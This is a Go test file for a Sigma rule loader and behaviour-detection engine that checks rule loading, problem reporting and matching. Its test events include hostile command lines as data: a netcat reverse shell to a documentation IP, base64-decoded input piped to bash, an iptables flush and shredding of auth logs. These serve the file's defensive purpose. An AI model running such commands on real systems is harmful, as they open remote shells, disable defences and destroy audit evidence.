package behavior

import (
	"os"
	"strings"
	"testing"

	"github.com/palisade-cwpp/palisade/internal/finding"
)

func loadTestSigma(t testing.TB) (*RuleSet, []LoadProblem) {
	t.Helper()
	set, problems, err := LoadSigma(os.DirFS("testdata/sigma"))
	if err != nil {
		t.Fatal(err)
	}
	return set, problems
}

// TestSigmaLoadReport: supported rules load; every other file is reported with the rule and
// each unsupported part, never dropped silently.
func TestSigmaLoadReport(t *testing.T) {
	set, problems := loadTestSigma(t)
	wantLoaded := []string{
		"sigma.6f1c3a52-9d1e-4b7a-8f0e-2c4d5e6f7a81", "sigma.0b7e2d94-31c5-4a60-9e2f-7d8c1b3a4e55",
		"sigma.a4d2f1e0-5b6c-47d8-9e0a-1b2c3d4e5f60", "sigma.3e9a7c1b-2d4f-4e6a-8b0c-9d1e2f3a4b5c",
		"sigma.9c8b7a6d-5e4f-4a3b-9c2d-1e0f9a8b7c6d", "sigma.5d4c3b2a-1f0e-4d9c-8b7a-6f5e4d3c2b1a",
		"sigma.7a6b5c4d-3e2f-4a1b-8c9d-0e1f2a3b4c5d",
	}
	for _, id := range wantLoaded {
		if set.Rule(id) == nil {
			t.Errorf("%s did not load", id)
		}
	}
	if set.Len() != len(wantLoaded) {
		t.Errorf("loaded %v, want %d rules", set.IDs(), len(wantLoaded))
	}
	want := map[string][]string{
		"broken.yml":              {"YAML:", "line 2"},
		"unsupported_windows.yml": {"sigma.11111111-2222-4333-8444-555555555555", `logsource product="windows"`},
		"unsupported_parts.yml": {"sigma.22222222-3333-4444-8555-666666666666", `field "OriginalFileName"`, `modifier "base64offset"`,
			`keyword (field-less) search`, "aggregation"},
		"unnamed_user.yml": {`field User: value "alice"`},
	}
	got := map[string]string{}
	for _, p := range problems {
		got[p.File] = p.Error()
	}
	for file, parts := range want {
		msg, ok := got[file]
		if !ok {
			t.Errorf("%s: no load problem reported", file)
			continue
		}
		for _, part := range parts {
			if !strings.Contains(msg, part) {
				t.Errorf("%s: problem %q does not mention %q", file, msg, part)
			}
		}
	}
	if len(problems) != len(want) {
		t.Errorf("problems: %v", problems)
	}
	r := set.Rule("sigma.6f1c3a52-9d1e-4b7a-8f0e-2c4d5e6f7a81")
	if r.Severity != finding.SeverityHigh || strings.Join(r.MITRE, ",") != "T1059.004,T1140" {
		t.Errorf("level/tags mapped to %v %v", r.Severity, r.MITRE)
	}
}

func exec(exe string, args ...string) *Event {
	return &Event{Kind: KindExec, Time: testEpoch, Proc: Process{PID: 4000, Exe: exe, Args: args, UID: 1000, EUID: 1000, AUID: 1000},
		Ancestors: []Process{{PID: 3999, Exe: "/usr/bin/bash", Args: []string{"bash"}, UID: 1000, EUID: 1000}}}
}

func withParent(ev *Event, exe string, args ...string) *Event {
	ev.Ancestors = append([]Process{{PID: 3000, Exe: exe, Args: args, UID: ev.Proc.UID, EUID: ev.Proc.UID}}, ev.Ancestors...)
	ev.Proc.PPID = 3000
	return ev
}

func asRoot(ev *Event) *Event { ev.Proc.UID, ev.Proc.EUID = 0, 0; return ev }

// TestSigmaMatching: the Sigma semantics the loader maps (modifiers, wildcards, case,
// conditions) decide as Sigma would.
func TestSigmaMatching(t *testing.T) {
	set, _ := loadTestSigma(t)
	tests := []struct {
		name, rule string
		ev         *Event
		want       bool
	}{
		{"contains|all and all of selection_*", "6f1c3a52-9d1e-4b7a-8f0e-2c4d5e6f7a81", exec("/bin/sh", "sh", "-c", "echo aGk= | base64 -d | bash"), true},
		{"decoding without a shell", "6f1c3a52-9d1e-4b7a-8f0e-2c4d5e6f7a81", exec("/bin/sh", "sh", "-c", "base64 -d a.b64 > a"), false},
		{"case-insensitive by default", "6f1c3a52-9d1e-4b7a-8f0e-2c4d5e6f7a81", exec("/bin/sh", "sh", "-c", "BASE64 -D x | SH"), true},
		{"selection and not filter", "0b7e2d94-31c5-4a60-9e2f-7d8c1b3a4e55", exec("/usr/bin/curl", "curl", "-A", "botnet/1.0", "http://203.0.113.9/"), true},
		{"filter applies", "0b7e2d94-31c5-4a60-9e2f-7d8c1b3a4e55", exec("/usr/bin/curl", "curl", "-A", "Mozilla/5.0", "http://203.0.113.9/"), false},
		{"endswith on Image", "0b7e2d94-31c5-4a60-9e2f-7d8c1b3a4e55", exec("/usr/bin/wget", "wget", "-A", "x", "http://203.0.113.9/"), false},
		{"windash", "a4d2f1e0-5b6c-47d8-9e0a-1b2c3d4e5f60", exec("/usr/sbin/iptables", "iptables", "-F"), true},
		{"windash slash form", "a4d2f1e0-5b6c-47d8-9e0a-1b2c3d4e5f60", exec("/usr/sbin/iptables", "iptables", "/F"), true},
		{"not 1 of filter_*", "a4d2f1e0-5b6c-47d8-9e0a-1b2c3d4e5f60", withParent(exec("/usr/sbin/iptables", "iptables", "-F"), "/usr/bin/dockerd"), false},
		{"wildcard in value, list of maps", "3e9a7c1b-2d4f-4e6a-8b0c-9d1e2f3a4b5c", withParent(exec("/usr/bin/id", "id"), "/usr/sbin/php-fpm8.2"), true},
		{"second map of the search", "3e9a7c1b-2d4f-4e6a-8b0c-9d1e2f3a4b5c", withParent(exec("/usr/bin/cat", "cat", "/etc/passwd"), "/usr/sbin/nginx"), true},
		{"parent not a web server", "3e9a7c1b-2d4f-4e6a-8b0c-9d1e2f3a4b5c", exec("/usr/bin/id", "id"), false},
		{"re", "9c8b7a6d-5e4f-4a3b-9c2d-1e0f9a8b7c6d", exec("/usr/bin/nc", "/usr/bin/nc.traditional", "203.0.113.9", "4444", "-e", "/bin/sh"), true},
		{"re no match", "9c8b7a6d-5e4f-4a3b-9c2d-1e0f9a8b7c6d", exec("/usr/bin/nc", "nc", "-zv", "10.0.0.1", "22"), false},
		{"User root and cased", "5d4c3b2a-1f0e-4d9c-8b7a-6f5e4d3c2b1a", asRoot(exec("/usr/bin/chattr", "chattr", "+i", "/etc/cron.d/x")), true},
		{"cased differs", "5d4c3b2a-1f0e-4d9c-8b7a-6f5e4d3c2b1a", asRoot(exec("/usr/bin/chattr", "chattr", "+I", "/etc/cron.d/x")), false},
		{"not root", "5d4c3b2a-1f0e-4d9c-8b7a-6f5e4d3c2b1a", exec("/usr/bin/chattr", "chattr", "+i", "/home/a/x"), false},
		{"1 of them: first", "7a6b5c4d-3e2f-4a1b-8c9d-0e1f2a3b4c5d", exec("/usr/bin/shred", "shred", "-u", "/var/log/auth.log"), true},
		{"1 of them: second", "7a6b5c4d-3e2f-4a1b-8c9d-0e1f2a3b4c5d", exec("/usr/bin/wipe", "wipe", "-f", "/var/log/wtmp"), true},
		{"1 of them: neither", "7a6b5c4d-3e2f-4a1b-8c9d-0e1f2a3b4c5d", exec("/usr/bin/shred", "shred", "-u", "/tmp/key"), false},
	}
	e, err := New(set, Config{})
	if err != nil {
		t.Fatal(err)
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := false
			e.Handle(tt.ev, func(f finding.Finding) {
				if err := f.Validate(); err != nil {
					t.Errorf("finding does not validate: %v", err)
				}
				if f.RuleID == "sigma."+tt.rule {
					got = true
				}
			})
			if got != tt.want {
				t.Errorf("rule %s fired = %v, want %v", tt.rule, got, tt.want)
			}
		})
	}
}
